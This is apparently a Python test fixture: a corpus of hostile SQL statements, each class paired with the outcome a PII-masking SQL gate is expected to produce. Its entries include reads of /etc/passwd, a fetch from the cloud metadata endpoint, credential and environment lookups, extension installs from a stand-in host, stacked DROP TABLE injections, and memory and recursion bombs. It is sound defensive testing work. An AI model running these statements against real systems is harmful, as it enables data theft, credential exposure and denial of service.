"""The hostile SQL corpus, as data: statement classes, each with what must happen to every statement in it.

Outcomes:
- ``refused``: the gate refuses it (UnsafeSQL) before anything runs;
- ``too_complex``: refused by a ``sql.max_*`` bound (SqlTooComplex), before heavy work;
- ``masked``: it runs, every PII value in the answer reads ``***`` (at least one does), none is clear;
- ``no_leak``: it may run or fail (a conversion error, say), but neither rows nor message hold a clear value;
- ``bounded``: it is stopped by the deadline or the memory limit, or its result is cut by a cap.

``{lake}`` stands for the sample lake's directory (the files behind the masked views).
The PII tables of the sample lake: marts.customers and staging.customers (email, phone, full_name,
address.street, address.postal_code), raw.shop_customers, support.agents, marketing.email_sends, raw.events.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    klass: str
    outcome: str
    sql: str

    @property
    def id(self) -> str:
        return f"{self.klass}:{self.sql[:60]}"


C = "marts.customers"

CLASSES: dict[str, tuple[str, list[str]]] = {
    # PII: whole rows and structs built from them
    "whole_row": ("masked", [f"SELECT c FROM {C} c", f"SELECT c FROM {C} AS c ORDER BY c.customer_id LIMIT 5", f"SELECT * FROM (SELECT c FROM {C} c) t"]),
    "row_to_text": ("masked", [f"SELECT CAST(c AS VARCHAR) FROM {C} c", f"SELECT c::VARCHAR FROM {C} c", f"SELECT concat(c) FROM {C} c", f"SELECT format('{{}}', c) FROM {C} c"]),
    "row_to_json": ("masked", [f"SELECT to_json(c) FROM {C} c", f"SELECT row_to_json(c) FROM {C} c", f"SELECT json_object('row', c) FROM {C} c", f"SELECT json_extract(to_json(c), '$.email') FROM {C} c"]),
    "struct_access": ("masked", [f"SELECT struct_extract(c, 'email') FROM {C} c", f"SELECT c['email'] FROM {C} c", f"SELECT c.email FROM {C} c", f"SELECT (c).full_name FROM {C} c"]),
    "unnest_row": ("masked", [f"SELECT unnest(c) FROM {C} c", f"SELECT struct_values(c) FROM {C} c"]),
    "nested_pii_struct": ("masked", [f"SELECT address FROM {C}", f"SELECT address.street, address.postal_code FROM {C}", f"SELECT c.address.street FROM {C} c", f"SELECT to_json(address) FROM {C}"]),
    # PII: star and COLUMNS expansions
    "star": ("masked", [f"SELECT * FROM {C}", f"FROM {C}", f"SELECT * EXCLUDE (customer_id) FROM {C}", f"SELECT * RENAME (email AS e) FROM {C}", f"SELECT * REPLACE (upper(email) AS email) FROM {C}"]),
    "columns_regex": ("masked", [f"SELECT COLUMNS('.*') FROM {C}", f"SELECT COLUMNS('e.*') FROM {C}", f"SELECT COLUMNS('(?i)MAIL') FROM {C}"]),
    "columns_star": ("masked", [f"SELECT COLUMNS(*) FROM {C}", f"SELECT COLUMNS(* EXCLUDE (customer_id)) FROM {C}"]),
    "columns_lambda": ("masked", [f"SELECT COLUMNS(c -> c LIKE '%mail%') FROM {C}", f"SELECT COLUMNS(x -> x IN ('phone', 'full_name')) FROM {C}"]),
    "columns_aggregate": ("masked", [f"SELECT max(COLUMNS('email')) FROM {C}", f"SELECT min(COLUMNS(*)) FROM {C}", f"SELECT first(COLUMNS('phone|full_name')) FROM {C}"]),
    # PII: names and positions
    "quoted_names": ("masked", [f'SELECT "EMAIL" FROM {C}', 'SELECT "Email", "Full_Name" FROM "MARTS"."CUSTOMERS"', 'SELECT "email" FROM "marts"."customers"']),
    "positional": ("masked", [f"SELECT #2 FROM {C}", f"SELECT #2, #3, #4 FROM {C}"]),
    "aliases": ("masked", [f"SELECT email AS contact FROM {C}", f"SELECT x FROM (SELECT email AS x FROM {C})", f"SELECT t.a FROM (SELECT phone FROM {C}) AS t(a)"]),
    # PII: query shapes
    "lateral": ("masked", [f"SELECT l.e FROM {C} c, LATERAL (SELECT c.email AS e) l", f"SELECT l.* FROM {C} c CROSS JOIN LATERAL (SELECT c.full_name, c.phone) l"]),
    "pivot": ("masked", [f"SELECT * FROM {C} PIVOT (first(email) FOR country IN ('US', 'MX', 'DE'))",
                         f"SELECT * FROM (PIVOT {C} ON country IN ('US', 'MX') USING first(email) GROUP BY region)",
                         f"WITH p AS (SELECT * FROM {C} PIVOT (max(full_name) FOR region IN ('NA', 'EMEA'))) SELECT * FROM p"]),
    "unpivot": ("masked", [f"SELECT * FROM (SELECT email, phone FROM {C}) UNPIVOT (v FOR k IN (email, phone))",
                           f"SELECT * FROM (UNPIVOT (SELECT email, full_name FROM {C}) ON email, full_name INTO NAME k VALUE v)",
                           f"WITH u AS (SELECT * FROM (SELECT customer_id, email FROM {C}) UNPIVOT (v FOR k IN (email))) SELECT v FROM u"]),
    "cte": ("masked", [f"WITH x AS (SELECT * FROM {C}) SELECT email FROM x", f"WITH a AS (SELECT email FROM {C}), b AS (SELECT * FROM a) SELECT * FROM b",
                       f"WITH RECURSIVE r AS (SELECT email, 1 AS n FROM {C} UNION ALL SELECT email, n + 1 FROM r WHERE n < 2) SELECT email FROM r"]),
    "subquery": ("masked", [f"SELECT (SELECT email FROM {C} LIMIT 1) AS e", f"SELECT * FROM (SELECT full_name FROM {C}) s", f"SELECT 1 AS k, (SELECT list(phone) FROM {C}) AS p"]),
    "set_operations": ("masked", [f"SELECT email FROM {C} UNION ALL SELECT 'x'", f"SELECT email FROM {C} INTERSECT SELECT email FROM staging.customers",
                                  f"SELECT email FROM {C} EXCEPT SELECT 'nobody'"]),
    "join": ("masked", [f"SELECT a.email, b.full_name FROM {C} a JOIN staging.customers b USING (customer_id)", f"SELECT s.email_address, c.email FROM raw.shop_customers s, {C} c LIMIT 5"]),
    "window": ("masked", [f"SELECT first_value(email) OVER (ORDER BY customer_id) FROM {C}", f"SELECT lag(phone) OVER (), lead(full_name) OVER () FROM {C}",
                          f"SELECT email FROM {C} QUALIFY row_number() OVER (PARTITION BY country) = 1"]),
    "aggregates": ("masked", [f"SELECT string_agg(email, ',') FROM {C}", f"SELECT list(email), array_agg(full_name) FROM {C}", f"SELECT min(email), max(phone), any_value(full_name) FROM {C}",
                              f"SELECT histogram(email) FROM {C}", f"SELECT mode(full_name), arg_max(email, customer_id) FROM {C}"]),
    "string_functions": ("masked", [f"SELECT upper(email), reverse(full_name) FROM {C}", f"SELECT email || '' FROM {C}", f"SELECT substr(phone, 1, 3), left(email, 2) FROM {C}",
                                    f"SELECT regexp_extract(email, '(.*)') FROM {C}", f"SELECT replace(full_name, ' ', '_') FROM {C}"]),
    "builders": ("masked", [f"SELECT {{'e': email}} FROM {C}", f"SELECT [email, phone] FROM {C}", f"SELECT map([customer_id], [email]) FROM {C}", f"SELECT struct_pack(n := full_name) FROM {C}",
                            f"SELECT unnest([email, phone]) FROM {C}"]),
    "sampling_distinct": ("masked", [f"SELECT email FROM {C} USING SAMPLE 5", f"SELECT DISTINCT ON (country) email FROM {C}", f"SELECT email, count(*) FROM {C} GROUP BY ALL"]),
    "other_pii_tables": ("masked", ["SELECT name, street, zip, email_address, phone_number FROM raw.shop_customers", "SELECT full_name, email FROM support.agents",
                                    "SELECT email FROM marketing.email_sends", "SELECT ip_address FROM raw.events", "SELECT a FROM staging.customers a",
                                    "SELECT COLUMNS('.*') FROM support.agents"]),
    # PII: values echoed in errors and oracles
    "error_echo": ("no_leak", [f"SELECT CAST(email AS INTEGER) FROM {C}", f"SELECT error(email) FROM {C}", f"SELECT strptime(email, '%Y') FROM {C}", f"SELECT email::DATE FROM {C}",
                               f"SELECT CAST(full_name AS DOUBLE) FROM {C}", f"SELECT json(phone) FROM {C}", f"SELECT CAST(c AS INTEGER) FROM {C} c", f"SELECT CAST(address AS INTEGER) FROM {C}",
                               f"SELECT to_timestamp(email::DOUBLE) FROM {C}", f"SELECT struct_extract(c, email) FROM {C} c"]),
    "filter_oracles": ("no_leak", [f"SELECT count(*) FROM {C} WHERE email LIKE '%@%'", f"SELECT count(*) FROM {C} WHERE full_name > 'M'", f"SELECT customer_id FROM {C} WHERE phone LIKE '+%' LIMIT 5",
                                   f"SELECT length(email), md5(email), hash(full_name) FROM {C}", f"SELECT CASE WHEN email LIKE '%@%' THEN 'yes' ELSE email END FROM {C}"]),
    # system catalogs
    "information_schema": ("refused", ["SELECT * FROM information_schema.tables", "SELECT * FROM information_schema.columns", "SELECT * FROM information_schema.views",
                                       "SELECT * FROM information_schema.schemata", "SELECT * FROM memory.information_schema.tables", 'SELECT * FROM "INFORMATION_SCHEMA"."TABLES"']),
    "pg_catalog": ("refused", ["SELECT * FROM pg_catalog.pg_settings", "SELECT * FROM pg_catalog.pg_views", "SELECT * FROM pg_catalog.pg_class", "SELECT * FROM pg_settings",
                               "SELECT * FROM pg_namespace", "SELECT name, setting FROM pg_catalog.pg_settings WHERE name LIKE '%director%'"]),
    "sqlite_master": ("refused", ["SELECT * FROM sqlite_master", "SELECT sql FROM sqlite_schema", "SELECT * FROM sqlite_temp_master"]),
    "duckdb_views": ("refused", ["SELECT * FROM duckdb_tables", "SELECT * FROM duckdb_views", "SELECT * FROM duckdb_settings", "SELECT sql FROM duckdb_views WHERE NOT internal",
                                 "SELECT * FROM duckdb_databases", "SELECT * FROM duckdb_columns"]),
    "duckdb_functions": ("refused", ["SELECT * FROM duckdb_tables()", "SELECT * FROM duckdb_settings()", "SELECT * FROM duckdb_databases()", "SELECT * FROM duckdb_secrets()",
                                     "SELECT * FROM duckdb_extensions()", "SELECT * FROM duckdb_memory()", "SELECT * FROM duckdb_functions()", "SELECT * FROM system.main.duckdb_tables()"]),
    "pragma_relations": ("refused", ["SELECT * FROM pragma_database_list", "SELECT * FROM pragma_database_list()", f"SELECT * FROM pragma_table_info('{C}')",
                                     "SELECT * FROM pragma_version()", "SELECT * FROM pragma_show('marts.customers')", "SELECT * FROM pragma_storage_info('marts.customers')"]),
    "catalog_qualified": ("refused", ["SELECT * FROM system.information_schema.tables", "SELECT * FROM temp.main.anything", "SELECT * FROM system.main.duckdb_settings"]),
    "cte_shadowing": ("refused", ["SELECT * FROM (WITH sqlite_master AS (SELECT 1) SELECT 1), sqlite_master", "WITH a AS (SELECT * FROM duckdb_settings) SELECT * FROM a",
                                  "WITH information_schema AS (SELECT 1) SELECT * FROM information_schema.tables"]),
    "unknown_tables": ("refused", ["SELECT * FROM customers", "SELECT * FROM main.customers", "SELECT * FROM marts.nope"]),
    # files, network, environment, settings
    "lake_files_around_views": ("refused", ["SELECT * FROM read_parquet('{lake}/**/*.parquet')", "SELECT * FROM parquet_scan('{lake}/warehouse/**/*.parquet')",
                                            "SELECT * FROM iceberg_scan('{lake}/warehouse/marts.db/customers')", "SELECT * FROM '{lake}/warehouse/marts.db/customers/data/x.parquet'",
                                            "SELECT * FROM glob('{lake}/**')", "SELECT * FROM parquet_metadata('{lake}/**/*.parquet')"]),
    "read_functions": ("refused", ["SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/hostname')", "SELECT * FROM read_blob('/etc/passwd')",
                                   "SELECT * FROM read_json_auto('http://169.254.169.254/latest/meta-data')", "SELECT * FROM read_ndjson('/etc/passwd')", "SELECT * FROM read_duckdb('/x.db')"]),
    "glob_sniff": ("refused", ["SELECT * FROM glob('/etc/*')", "SELECT * FROM sniff_csv('/etc/passwd')", "SELECT * FROM parquet_schema('/x.parquet')"]),
    "query_functions": ("refused", ["SELECT * FROM query('SELECT 1')", f"SELECT * FROM query_table('{C}')", "SELECT * FROM json_execute_serialized_sql('{{}}')",
                                    "SELECT json_serialize_sql('SELECT 1')", "SELECT json_serialize_plan('SELECT 1')"]),
    "environment": ("refused", ["SELECT getenv('HOME')", "SELECT current_setting('memory_limit')", "SELECT current_setting('allowed_directories')", "SELECT current_query()",
                                "SELECT which_secret('s3://x', 's3')", "SELECT * FROM load_aws_credentials()"]),
    "side_effect_functions": ("refused", ["SELECT write_log('x')", "SELECT pg_sleep(10)", "SELECT nextval('s')", "SELECT setseed(0.5)", "SELECT * FROM checkpoint()",
                                          "SELECT * FROM enable_logging()", "SELECT * FROM duckdb_logs"]),
    "other_table_functions": ("refused", ["SELECT * FROM test_all_types()", "SELECT * FROM repeat_row(1, num_rows := 10)", f"SELECT * FROM summary((SELECT * FROM {C}))",
                                          "SELECT * FROM json_each('[1]')", "SELECT * FROM arrow_scan(0, 0, 0)"]),
    "show_describe_in_from": ("refused", [f"SELECT * FROM (SUMMARIZE {C})", f"SELECT * FROM (DESCRIBE {C})", "SELECT * FROM (SHOW TABLES)", "SELECT * FROM (SHOW ALL TABLES)"]),
    # statements
    "attach_detach": ("refused", ["ATTACH '/tmp/evil.db' AS evil", "ATTACH ':memory:' AS m", "DETACH memory", "USE marts"]),
    "copy_export": ("refused", ["COPY (SELECT 1) TO '/tmp/out.csv'", f"COPY {C} TO '/tmp/c.parquet' (FORMAT parquet)", "EXPORT DATABASE '/tmp/export'", "IMPORT DATABASE '/tmp/export'",
                                "COPY marts.customers FROM '/etc/passwd'"]),
    "install_load": ("refused", ["INSTALL httpfs", "LOAD httpfs", "FORCE INSTALL spatial FROM 'http://example.com'", "LOAD '/tmp/evil.duckdb_extension'"]),
    "set_pragma": ("refused", ["SET enable_external_access = true", "SET memory_limit = '100GB'", "RESET lock_configuration", "PRAGMA enable_profiling", "PRAGMA database_list",
                               "SET threads = 64"]),
    "call": ("refused", ["CALL pragma_version()", "CALL duckdb_settings()", "CALL load_aws_credentials()"]),
    "ddl_dml": ("refused", [f"DROP TABLE {C}", f"CREATE VIEW marts.leak AS SELECT * FROM {C}", "CREATE MACRO leak(x) AS x", "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
                            f"INSERT INTO {C} SELECT * FROM {C}", f"UPDATE {C} SET email = 'x'", f"DELETE FROM {C}", f"WITH d AS (DELETE FROM {C} RETURNING *) SELECT * FROM d",
                            f"ALTER VIEW {C} RENAME TO x", "CHECKPOINT", "VACUUM", "BEGIN TRANSACTION"]),
    "explain_describe": ("refused", [f"EXPLAIN SELECT * FROM {C}", f"DESCRIBE {C}", f"SUMMARIZE {C}", "SHOW TABLES", f"PIVOT {C} ON country USING first(email)"]),
    "stacked_and_comments": ("refused", [f"SELECT 1; DROP TABLE {C}", "SELECT 1; -- x\n ATTACH '/tmp/e.db'", "SELECT 1 /* ; */; COPY (SELECT 1) TO '/tmp/e'", "SELECT 1;\u200bDROP TABLE x",
                                         "SELECT 1\x00; SELECT 2"]),
    "unicode_and_quoting": ("refused", ["SELECT * FROM ｒｅａｄ_csv('/etc/passwd')", "SELECT * FROM \"READ_TEXT\"('/etc/passwd')", "SELECT \"getenv\"('HOME')",
                                        "SELECT * FROM \"/etc/passwd\"", "SELECT * FROM 's3://bucket/key.parquet'"]),
    # bounds before heavy work
    "deep_parentheses": ("too_complex", ["SELECT " + "(" * 3000 + "1" + ")" * 3000, "SELECT " + "(" * 40 + "1" + ")" * 40]),
    "deep_not": ("too_complex", ["SELECT " + "NOT " * 5000 + "TRUE", "SELECT " + "- " * 500 + "1"]),
    "deep_functions": ("too_complex", ["SELECT " + "coalesce(" * 2000 + "1" + ", 2)" * 2000, "SELECT " + "abs(" * 100 + "1" + ")" * 100]),
    "deep_subqueries": ("too_complex", ["SELECT * FROM " + "(SELECT * FROM " * 100 + C + ")" * 100, "SELECT " + "CASE WHEN TRUE THEN " * 100 + "1" + " END" * 100]),
    "deep_literals": ("too_complex", ["SELECT " + "[" * 200 + "1" + "]" * 200, "SELECT " + "{'a': " * 100 + "1" + "}" * 100]),
    "many_unions": ("too_complex", [" UNION ALL ".join(["SELECT 1 AS a"] * 1000), " UNION ALL ".join([f"SELECT email FROM {C}"] * 1200),
                                    " INTERSECT ".join(["SELECT 1"] * 150), " EXCEPT ".join(["SELECT 1"] * 150)]),
    "huge_text": ("too_complex", [" UNION ALL ".join(["SELECT 1 AS a"] * 5000), "SELECT '" + "x" * 60_000 + "' AS big", "SELECT 1 AS a -- " + "y" * 60_000]),
    "many_nodes": ("too_complex", ["SELECT " + "+".join(["1"] * 6000), "SELECT 1 WHERE 1 IN (" + ",".join(["1"] * 12_000) + ")"]),
    # bounds on running
    "recursive_cte_bombs": ("bounded", ["WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
                                        "WITH RECURSIVE r(n, s) AS (SELECT 1, 'x' UNION ALL SELECT n + 1, s || s FROM r WHERE n < 60) SELECT max(length(s)) FROM r",
                                        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, range(2)) SELECT count(*) FROM r"]),
    "huge_series": ("bounded", ["SELECT count(*) FROM range(1000000000000)", "SELECT sum(generate_series) FROM generate_series(1, 1000000000000)",
                                "SELECT * FROM generate_series(1, 1000000000000)", "SELECT count(*) FROM range(100000) a, range(100000) b WHERE a.range + b.range = 7",
                                f"SELECT count(*) FROM {C} a, {C} b, {C} c, {C} d"]),
    "byte_bombs": ("bounded", ["SELECT repeat('x', 100000000) AS big", "SELECT repeat('ab', 1000) FROM range(100000)", "SELECT length(repeat('x', 10000000000))",
                               "SELECT length(string_agg(repeat('x', 1000000), '')) FROM range(5000)", "SELECT len(list(range)) FROM range(1000000000)"]),
    "memory_bombs": ("bounded", ["SELECT count(*) FROM (SELECT * FROM range(300000000) ORDER BY random())", "SELECT count(DISTINCT range) FROM range(1000000000)",
                                 "SELECT max(md5(range::VARCHAR)) FROM range(10000000000)"]),
}

CORPUS = [Hostile(klass, outcome, sql) for klass, (outcome, statements) in CLASSES.items() for sql in statements]
